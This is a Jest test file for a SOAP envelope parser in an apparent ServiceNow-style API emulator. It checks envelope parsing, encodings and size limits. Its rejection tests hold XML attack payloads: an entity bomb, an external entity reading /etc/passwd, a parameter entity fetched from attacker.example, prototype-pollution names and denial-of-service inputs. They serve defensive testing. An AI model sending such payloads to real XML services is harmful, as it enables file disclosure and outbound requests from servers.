import { beforeEach, describe, expect, test } from '@jest/globals';
import type { Problem, ProblemCode } from '../../../../functions/instance/problem.ts';
import { readEnvelope } from '../../../../functions/instance/soap/envelope.ts';
import { type Answer, FIRST, type InstanceUnderTest, instanceUnderTest } from '../ask.ts';

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const around = (body: string, header = ''): string => `<e:Envelope xmlns:e="${SOAP}">${header}<e:Body>${body}</e:Body></e:Envelope>`;

function problemOf(text: string): Problem {
  try {
    readEnvelope(text);
  } catch (error) {
    return error as Problem;
  }
  throw new Error('The envelope was read.');
}

const codeOf = (text: string): ProblemCode => problemOf(text).code;

describe('envelopes as real clients shape them', () => {
  test.each([
    ['qualified by prefix', around('<t:get xmlns:t="http://www.service-now.com/incident"><t:sys_id>1</t:sys_id></t:get>')],
    ['qualified by default namespace', around('<get xmlns="http://www.service-now.com/incident"><sys_id>1</sys_id></get>')],
    ['unqualified children', around('<t:get xmlns:t="http://www.service-now.com/incident"><sys_id>1</sys_id></t:get>')],
    ['not qualified at all', around('<get><sys_id>1</sys_id></get>')],
    ['of SOAP::Lite, typed', around('<get xmlns="http://www.service-now.com/"><sys_id xsi:type="xsd:string">1</sys_id></get>')],
    ['in the default namespace', `<Envelope xmlns="${SOAP}"><Header/><Body><get><sys_id>1</sys_id></get></Body></Envelope>`],
    ['with CDATA', around('<get><sys_id><![CDATA[1]]></sys_id></get>')],
    ['with a declaration and comments', `<?xml version="1.0"?>\n<!-- <!DOCTYPE x> -->${around('<get><!-- x --><sys_id>1</sys_id></get>')}`],
    ['with line breaks', around('\n  <get>\n    <sys_id>1</sys_id>\r\n  </get>\n')],
    [
      'with a header that may be ignored',
      around('<get><sys_id>1</sys_id></get>', '<e:Header><w:Security xmlns:w="w" e:mustUnderstand="0"/></e:Header>'),
    ],
  ])('%s', (_name, text) => {
    const { operation, parameters } = readEnvelope(text);
    expect(operation).toBe('get');
    expect([...parameters]).toEqual([['sys_id', '1']]);
  });

  test('text stays text: leading zeros, spaces, numbers, line breaks and references', () => {
    const fields = '<a>007</a><b> x </b><c>1e3</c><d>true</d><e>&lt;&amp;&gt;&quot;&apos;&#10;&#xe4;&#x1D11E;</e><f>a\r\nb</f><g/>';
    expect(Object.fromEntries(readEnvelope(around(`<insert>${fields}</insert>`)).parameters)).toEqual({
      a: '007',
      b: ' x ',
      c: '1e3',
      d: 'true',
      e: '<&>"\'\nä𝄞',
      f: 'a\nb',
      g: '',
    });
  });

  test('xsi:nil is an empty value', () => {
    const text = around('<insert><a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"> </a></insert>');
    expect(readEnvelope(text).parameters.get('a')).toBe('');
  });

  test('a reference in CDATA is no reference, and a DTD in CDATA is no DTD', () => {
    const text = around('<insert><a>&lt;<![CDATA[&amp;<!DOCTYPE html>]]>&gt;</a></insert>');
    expect(readEnvelope(text).parameters.get('a')).toBe('<&amp;<!DOCTYPE html>>');
  });

  test('names that mean something to JavaScript are names like others', () => {
    const before = Object.keys(Object.prototype);
    for (const name of ['hasOwnProperty', 'toString', 'valueOf', '__defineGetter__'])
      expect([...readEnvelope(around(`<insert><${name}>x</${name}></insert>`)).parameters]).toEqual([[name, 'x']]);
    for (const name of ['__proto__', 'constructor', 'prototype'])
      expect(codeOf(around(`<insert><${name}>x</${name}></insert>`))).toBe('body_unreadable');
    expect(Object.keys(Object.prototype)).toEqual(before);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });
});

describe('hostile and broken envelopes are refused', () => {
  const get = '<get><sys_id>&a;</sys_id></get>';

  test.each([
    ['a document type', `<!DOCTYPE x>${around('<get/>')}`],
    ['a document type in small letters', `<!doctype x>${around('<get/>')}`],
    ['an entity bomb', `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${around(get.replace('a', 'b'))}`],
    ['an external entity', `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${around(get)}`],
    ['a parameter entity', `<!DOCTYPE x [<!ENTITY % a SYSTEM "http://attacker.example/x.dtd"> %a;]>${around('<get/>')}`],
    ['a document type after a comment that only seems open', `<!-- a --><!DOCTYPE x [<!ENTITY a "x">]>${around(get)}<!-- b -->`],
    ['an entity declaration within the body', around('<get><!ENTITY a "x"></get>')],
  ])('%s', (_name, text) => {
    expect(problemOf(text)).toMatchObject({ code: 'body_unreadable', message: expect.stringContaining('DTD') });
  });

  test.each([
    ['an entity that XML does not define', around(get)],
    ['an entity of HTML', around('<get><a>&nbsp;</a></get>')],
    ['a bare ampersand', around('<get><a>x & y</a></get>')],
    ['a reference to no character', around('<get><a>&#9999999;</a></get>')],
    ['a processing instruction', `<?php x?>${around('<get/>')}`],
    ['a declaration that is not at the beginning', around('<get/>', '<?xml version="1.0"?>')],
    ['a tag of many attributes', around(`<get ${Array.from({ length: 1000 }, (_, index) => `a${index}=""`).join(' ')}/>`)],
    ['a tag that hides its length in quotes', around(`<get a=">" ${'b="" '.repeat(1000)}/>`)],
    ['more elements than any call has', around(`<get>${'<a/>'.repeat(20_000)}</get>`)],
    ['nothing', ''],
    ['JSON', '{"json":true}'],
    ['tags that cross', '<a><b></a></b>'],
    ['an element left open', around('<get><sys_id>1</get>')],
    ['a comment left open', around('<get><!-- </get>')],
    ['two documents', around('<get/>') + around('<get/>')],
    ['another document', '<html/>'],
    ['an empty body', around('')],
    ['two functions', around('<get/><insert/>')],
    ['no body', `<e:Envelope xmlns:e="${SOAP}"/>`],
    ['a field within a field', around('<insert><a><b>x</b></a></insert>')],
    ['one field twice', around('<insert><a>1</a><a>2</a></insert>')],
    ['21 levels and more', around(`<insert>${'<a>'.repeat(30)}${'</a>'.repeat(30)}</insert>`)],
  ])('%s', (_name, text) => {
    expect(codeOf(text)).toBe('body_unreadable');
  });

  test('an envelope of SOAP 1.2 or of no version', () => {
    const other = around('<get/>').replace(SOAP, 'http://www.w3.org/2003/05/soap-envelope');
    expect(codeOf(other)).toBe('soap_version_mismatch');
    expect(codeOf('<Envelope><Body><get/></Body></Envelope>')).toBe('soap_version_mismatch');
  });

  test('a mandatory header, which SOAP 1.1 forbids to ignore', () => {
    const header = '<e:Header><w:Security xmlns:w="w" e:mustUnderstand="1"/></e:Header>';
    expect(problemOf(around('<get/>', header))).toMatchObject({
      code: 'soap_header_not_understood',
      message: expect.stringContaining('Security'),
    });
    const another = header.replace('e:mustUnderstand', 'e:actor="http://another.example" e:mustUnderstand');
    expect(readEnvelope(around('<get/>', another)).operation).toBe('get');
  });

  test.each([
    ['a million empty elements', around(`<get>${'<a/>'.repeat(900_000)}</get>`)],
    ['a million open tags', '<a>'.repeat(1_000_000)],
    ['a million comments left open', '<!--'.repeat(1_000_000)],
    ['a million declarations', '<![CDATA['.repeat(400_000)],
    ['a long run of spaces in a tag', `<a${' '.repeat(4_000_000)}>`],
    ['a million attributes', `<a ${'b="" '.repeat(700_000)}/>`],
    ['four million ampersands', around(`<get><a>${'&'.repeat(4_000_000)}</a></get>`)],
    ['a million references', around(`<get><a>${'&#x;'.repeat(1_000_000)}</a></get>`)],
  ])('%s of 4 MB in time proportional to its length', (_name, text) => {
    // Time of the processor, which a busy machine does not lengthen.
    const started = process.cpuUsage();
    problemOf(text);
    expect(process.cpuUsage(started).user / 1000).toBeLessThan(5000);
  });
});

describe('the encoding of a body', () => {
  let instance: InstanceUnderTest;
  beforeEach(() => {
    instance = instanceUnderTest();
  });

  const TEXT = 'Zürich – Ångström';
  const document = (declaration: string, value = TEXT): string =>
    `${declaration}${around(`<update><sys_id>${FIRST}</sys_id><short_description>${value}</short_description></update>`)}`;
  const send = (body: Buffer, type = 'text/xml'): Promise<Answer> =>
    instance.ask('POST /incident.do?SOAP', { body, headers: { 'Content-Type': type } });
  const stored = async (): Promise<unknown> => (await instance.records.get('incident', FIRST))?.short_description;
  const windows1252 = (text: string): Buffer => Buffer.from(text.replace('–', '\u0096'), 'latin1');
  const bigEndian = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();

  test.each([
    ['UTF-8 when nothing is said', Buffer.from(document('')), 'text/xml'],
    ['UTF-8 by its byte order mark, whatever is said', Buffer.from(`\ufeff${document('')}`), 'text/xml; charset=iso-8859-1'],
    ['windows-1252 by the XML declaration', windows1252(document('<?xml version="1.0" encoding="windows-1252"?>')), 'text/xml'],
    ['windows-1252 by the charset', windows1252(document('')), 'text/xml; charset="Windows-1252"'],
    [
      'ISO-8859-1 declared, while the charset wrongly says UTF-8',
      windows1252(document("<?xml version='1.0' encoding='ISO-8859-1'?>")),
      'text/xml; charset=utf-8',
    ],
    [
      'UTF-16 little-endian with a mark',
      Buffer.from(`\ufeff${document('<?xml version="1.0" encoding="UTF-16"?>')}`, 'utf16le'),
      'text/xml',
    ],
    ['UTF-16 big-endian with a mark', bigEndian(`\ufeff${document('')}`), 'text/xml; charset=utf-16'],
    ['UTF-16 without a mark', Buffer.from(document('<?xml version="1.0" encoding="UTF-16"?>'), 'utf16le'), 'text/xml'],
    ['UTF-16BE by the charset', bigEndian(document('')), 'text/xml; charset=utf-16be'],
  ])('%s', async (_name, body, type) => {
    expect((await send(body, type)).status).toBe(200);
    expect(await stored()).toBe(TEXT);
  });

  test.each([
    ['octets that are not UTF-8', Buffer.from(document(''), 'latin1'), 'text/xml; charset=utf-8', /not valid in its encoding/],
    ['an encoding that nobody knows', Buffer.from(document('')), 'text/xml; charset=ebcdic', /not supported/],
    ['an encoding named like a property', Buffer.from(document('')), 'text/xml; charset=constructor', /not supported/],
    ['half a character of UTF-16', Buffer.from(`\ufeff${document('')}\ud834`, 'utf16le'), 'text/xml', /not valid/],
  ])('%s are refused, never replaced', async (_name, body, type, text) => {
    const answer = await send(body, type);
    expect(answer.status).toBe(500);
    expect(answer.text).toMatch(text);
    expect(await stored()).toBe('Printer on fire');
  });

  test('a body over 4 MB is 413 with a Fault', async () => {
    const answer = await send(Buffer.from(document('', 'x'.repeat(4 * 1024 * 1024))));
    expect(answer.status).toBe(413);
    expect(answer.text).toMatch(/<faultstring>The request is over 4 MB/);
  });
});
